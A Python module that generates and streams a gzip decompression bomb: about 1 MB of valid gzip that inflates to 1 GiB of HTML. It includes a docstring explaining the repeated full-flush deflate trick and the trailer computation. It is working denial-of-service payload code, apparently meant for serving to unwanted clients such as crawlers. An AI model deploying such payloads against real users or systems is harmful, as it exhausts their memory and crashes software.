"""The gzip bomb: about 1 MB of valid gzip that inflates to 1 GiB of HTML.

Deflate with a full flush resets the compressor, so one MiB of filler compresses to the same
~1 KB block every time. The body is the gzip header, the compressed head of the page, that
block 1024 times, the compressed tail, and the trailer (CRC-32 and size of the whole inflated
page). Only the block and the CRC are computed, once per process (about half a second, with
1 MiB in memory at a time); the body is streamed, never built whole.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

# Period 4: matches at distance 4 take no extra bits, so deflate reaches ~1000:1.
FILLER = b"bom " * (1 << 18)  # 1 MiB
BLOCKS = 1024  # 1 GiB of filler
HEAD = (
    b'<!DOCTYPE html>\n<html lang="vi"><head><meta charset="utf-8"><title>Trang n\xc3\xa9n'
    b"</title></head><body><h1>Trang n\xc3\xa9n</h1><p>"
)
TAIL = b"</p></body></html>\n"
# gzip member header: deflate, no flags, mtime 0, maximum compression, OS unknown
GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
BATCH = 64  # blocks per write


@dataclass(frozen=True)
class Bomb:
    head: bytes  # gzip header and the deflated page head
    block: bytes  # the deflated MiB of filler, repeated
    tail: bytes  # the deflated page tail, end of stream, gzip trailer
    blocks: int

    @property
    def length(self) -> int:
        """Bytes on the wire."""
        return len(self.head) + len(self.block) * self.blocks + len(self.tail)

    @property
    def inflated(self) -> int:
        """Bytes of HTML it inflates to."""
        return len(HEAD) + len(FILLER) * self.blocks + len(TAIL)

    def pieces(self) -> Iterator[bytes]:
        yield self.head
        batch = self.block * BATCH
        full, rest = divmod(self.blocks, BATCH)
        for _ in range(full):
            yield batch
        yield self.block * rest
        yield self.tail


@functools.cache
def bomb(blocks: int = BLOCKS) -> Bomb:
    """The bomb of ``blocks`` MiB of filler (made once per process and size)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS, 9)
    head = deflate.compress(HEAD) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(FILLER) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.compress(TAIL) + deflate.flush(zlib.Z_FINISH)
    crc = zlib.crc32(HEAD)
    for _ in range(blocks):
        crc = zlib.crc32(FILLER, crc)
    crc = zlib.crc32(TAIL, crc)
    size = len(HEAD) + len(FILLER) * blocks + len(TAIL)
    trailer = struct.pack("<II", crc, size & 0xFFFFFFFF)
    return Bomb(GZIP_HEADER + head, block, end + trailer, blocks)
